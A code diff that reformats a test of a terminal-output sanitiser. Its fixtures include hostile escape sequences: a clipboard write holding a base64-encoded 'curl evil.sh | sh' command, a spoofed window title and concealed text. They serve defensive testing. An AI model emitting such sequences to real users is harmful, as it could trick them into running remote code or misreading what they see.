@@ -38,7 +38,11 @@ const rawForbidden = (s: string) => [...s].filter((c) => FORBIDDEN.includes(c.co
 
 describe('visibleText', () => {
   test.each([
-    ['OSC 52: write the clipboard', `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`, '\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007'],
+    [
+      'OSC 52: write the clipboard',
+      `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`,
+      '\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007',
+    ],
     ['OSC 0: retitle the window', `${ESC}]0;airlock: gate passed${ESC}\\`, '\\u001b]0;airlock: gate passed\\u001b\\'],
     ['CSI 8 m: conceal what follows', `${ESC}[8mtripwires: fetch${ESC}[0m`, '\\u001b[8mtripwires: fetch\\u001b[0m'],
     [
